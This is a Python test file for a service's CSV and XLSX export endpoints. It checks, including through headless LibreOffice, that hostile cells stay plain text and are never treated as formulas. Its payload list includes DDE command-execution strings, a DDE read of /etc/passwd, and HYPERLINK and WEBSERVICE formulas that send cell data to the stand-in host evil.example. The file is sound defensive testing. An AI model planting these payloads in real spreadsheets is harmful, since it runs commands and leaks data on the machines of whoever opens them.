"""Hostile cells as spreadsheets show them, from documents that came out of the API: as text, and run by none.

LibreOffice reads along wherever it is installed; what it takes for a formula is in the files that it writes.
"""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path
from typing import NamedTuple, TypeAlias
from uuid import UUID
from xml.etree import ElementTree as ET

import pytest

from service.backends.database import connect
from service.settings import Settings
from tests.api.conftest import CSV
from tests.api.problems import bearer
from tests.conftest import PUBLIC_URL, OpenDatabase, Token, on_database, open_client
from tests.support.documents import read_xlsx
from tests.support.factories import CANARY, Connection, create_user
from tests.support.operators import create_key
from tests.support.spreadsheets import convert

GUARDED = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=", "=SUM(1;2)", "=1+1;=1+1", "=1+1\r\n=1+1"),
    *("\t=1+1", "\r=1+1", "\r\n=1+1", "'=1+1", "''=1+1", "'\t=1+1", '=""&"1"'),
    *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=DDE("soffice";"/etc/passwd";"A1")'),
    *('=HYPERLINK("http://evil.example/?"&A1;"Click")', '=WEBSERVICE("http://evil.example/?"&A1)'),
]
LEFT = [
    *(" =1+1", "   =1+1", "\n=1+1", "x\n=1+1", "x\r\n=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1"),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1+1)", "\u22121+1", "{=1+1}", "of:=1+1"),
    *("x;=1+1", ";=1+1", "x;=1+1;y", "x;@SUM(1+1)", "x;;=A1", "x,=1+1", ",=1+1,", "x\t=1+1", "x|=1+1", "x =1+1"),
    *('"=1+1', '"=1+1"', '",=1+1,"', '";=1+1;"', '""=1+1', "'", "''", "'quoted'", "\\=1+1", "(=1+1)", "),=1+1"),
]
COLUMNS = {"file": "content_title", "stream": "content_body", "marked": "content_body", "list": "name"}
SHOWN = [f"'{text}" for text in GUARDED] + LEFT
UNGUARDED = b"=1+1,text\r\n"
# The tokens: separators (the import dialog ticks comma, semicolon and TAB), quote, UTF-8, first line; then columns,
# language, quoted cells as text, numbers of all kinds; two for writing; spaces removed, sheet, formulas evaluated.
LIBREOFFICE_OPTIONS = {
    "LibreOffice": "44,34,76,1",
    "LibreOffice at its most eager": "44/59/9/32,34,76,1,,0,false,true,false,false,true,-1,true",
}
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


class Cell(NamedTuple):
    text: str
    is_formula: bool


Sheet: TypeAlias = list[list[Cell]]
Reader: TypeAlias = Callable[[Path], Mapping[str, Sheet]]


def read_parsed(folder: Path) -> Mapping[str, Sheet]:
    """A formula is what begins like one: these documents have no negative numbers."""
    return {path.stem: [list(map(parsed, line)) for line in parse(path)] for path in folder.glob("*.csv")}


def parse(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), strict=True))


def parsed(text: str) -> Cell:
    return Cell(text, text.startswith(("=", "+", "-", "@", "\t", "\r")))


def read_with_libreoffice(options: str, folder: Path) -> Mapping[str, Sheet]:
    """All in one start, which takes seconds, with a profile of its own: no user's settings and no running instance."""
    subprocess.run(
        [
            *("soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless"),
            *(f"--infilter=Text - txt - csv (StarCalc):{options}", "--convert-to", "fods", "--outdir", folder),
            *folder.glob("*.csv"),
        ],
        check=True,
        capture_output=True,
    )
    return {path.stem: read_flat_document(path) for path in folder.glob("*.fods")}


def read_flat_document(path: Path) -> Sheet:
    rows = ET.parse(path).iter(f"{TABLE}table-row")  # noqa: S314 (LibreOffice wrote it)
    return [[cell for element in row.iter(f"{TABLE}table-cell") for cell in cells_of(element)] for row in rows]


def cells_of(element: ET.Element) -> list[Cell]:
    text = "\n".join(map(text_of, element.iter(f"{TEXT}p")))
    return [Cell(text, f"{TABLE}formula" in element.attrib)] * int(element.get(f"{TABLE}number-columns-repeated", "1"))


def text_of(element: ET.Element) -> str:
    """Spaces and TABs can be elements of their own."""
    spaces = " " * int(element.get(f"{TEXT}c", "1")) if element.tag == f"{TEXT}s" else ""
    tab = "\t" if element.tag == f"{TEXT}tab" else ""
    inner = [text_of(child) + (child.tail or "") for child in element]
    return "".join([spaces, tab, element.text or "", *inner])


def read_workbook(path: Path) -> dict[str, Sheet]:
    """A workbook as LibreOffice shows it."""
    convert("fods", path.parent, path)
    tables = ET.parse(path.with_suffix(".fods")).iter(f"{TABLE}table")  # noqa: S314 (LibreOffice wrote it)
    return {
        table.get(f"{TABLE}name", ""): [
            [cell for element in row.iter(f"{TABLE}table-cell") for cell in cells_of(element)]
            for row in table.iter(f"{TABLE}table-row")
        ]
        for table in tables
    }


READERS = [pytest.param(read_parsed, id="parsed")]
if shutil.which("soffice"):
    READERS += [
        pytest.param(partial(read_with_libreoffice, options), id=name) for name, options in LIBREOFFICE_OPTIONS.items()
    ]


@pytest.fixture(scope="module")
async def documents(common_settings: Settings, open_database: OpenDatabase, token: Token) -> Mapping[str, bytes]:
    """A stored file, streams with and without BOM, and a list for operators, all full of hostile cells."""
    async with (
        open_database() as url,
        open_client(on_database(common_settings, url)) as client,
        connect(url, own_search_path=True) as database,
    ):
        owner = bearer(token(await create_hostile_user(database)))
        created = await client.post("/api/export", json=CSV, headers=owner)
        link = created.json()["download_url"].removeprefix(PUBLIC_URL)
        return {
            "file": (await client.get(link, follow_redirects=True)).content,
            "workbook": (await client.get("/api/export/stream?format=xlsx", headers=owner)).content,
            "stream": (await client.get("/api/export/stream?format=csv", headers=owner)).content,
            "marked": (await client.get("/api/export/stream?format=csv&bom=1", headers=owner)).content,
            "list": (
                await client.get("/api/v1/users/export", headers={"X-API-Key": await create_key(database)})
            ).content,
        }


async def create_hostile_user(connection: Connection) -> UUID:
    """Their content has every hostile text, in order; as many others have them as names."""
    user_id = await create_user(connection)
    await connection.execute("UPDATE public.users SET name = '=1;=1' WHERE id = $1", user_id)
    await connection.executemany(
        "INSERT INTO public.content (user_id, title, body, created_at) VALUES ($1, $2, $2, to_timestamp($3))",
        [(user_id, text, second) for second, text in enumerate(GUARDED + LEFT)],
    )
    await connection.executemany(
        "INSERT INTO public.users (email, name, password_hash) VALUES ($1, $2, $3)",
        [(f"user-{number}@example.com", text, CANARY) for number, text in enumerate(GUARDED + LEFT)],
    )
    return user_id


@pytest.mark.parametrize("reader", READERS)
def test_hostile_cells_are_text(reader: Reader, documents: Mapping[str, bytes], tmp_path: Path) -> None:
    """One test, because LibreOffice takes seconds to start."""
    for name in COLUMNS:
        (tmp_path / f"{name}.csv").write_bytes(documents[name])
    (tmp_path / "unguarded.csv").write_bytes(UNGUARDED)
    sheets = reader(tmp_path)
    assert [[cell.is_formula for cell in row] for row in sheets["unguarded"]] == [[True, False]]
    for name, column in COLUMNS.items():
        assert formulas(sheets[name]) == [], name
        assert texts(sheets[name], column) == list(map(lines, SHOWN)), name


def test_hostile_cells_of_a_workbook_are_the_texts_themselves(documents: Mapping[str, bytes]) -> None:
    sheets = read_xlsx(documents["workbook"])
    assert [title for _, title, _, _ in sheets["content"][1:]] == GUARDED + LEFT
    archive = zipfile.ZipFile(io.BytesIO(documents["workbook"]))
    assert [name for name in archive.namelist() if b"<f>" in archive.read(name)] == []


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_shows_a_workbook_as_it_is(documents: Mapping[str, bytes], tmp_path: Path) -> None:
    (tmp_path / "workbook.xlsx").write_bytes(documents["workbook"])

    sheets = read_workbook(tmp_path / "workbook.xlsx")

    assert [*sheets] == ["user", "activity", "content", "about"]
    assert [formulas(sheet) for sheet in sheets.values()] == [[]] * 4
    header, *rows = sheets["content"]
    place = [cell.text for cell in header].index("title")
    assert [lines(row[place].text) for row in rows[: len(GUARDED + LEFT)]] == list(map(lines, GUARDED + LEFT))


def formulas(sheet: Sheet) -> list[str]:
    return [cell.text for row in sheet for cell in row if cell.is_formula]


def texts(sheet: Sheet, column: str) -> list[list[str]]:
    header, _, *rows = sheet  # the second is the profile, in the list the user who has the content
    place = [cell.text for cell in header].index(column)
    return [lines(row[place].text) for row in rows]


def lines(text: str) -> list[str]:
    """In a spreadsheet all ends of a line are the same."""
    return re.split(r"\r\n?|\n", text)
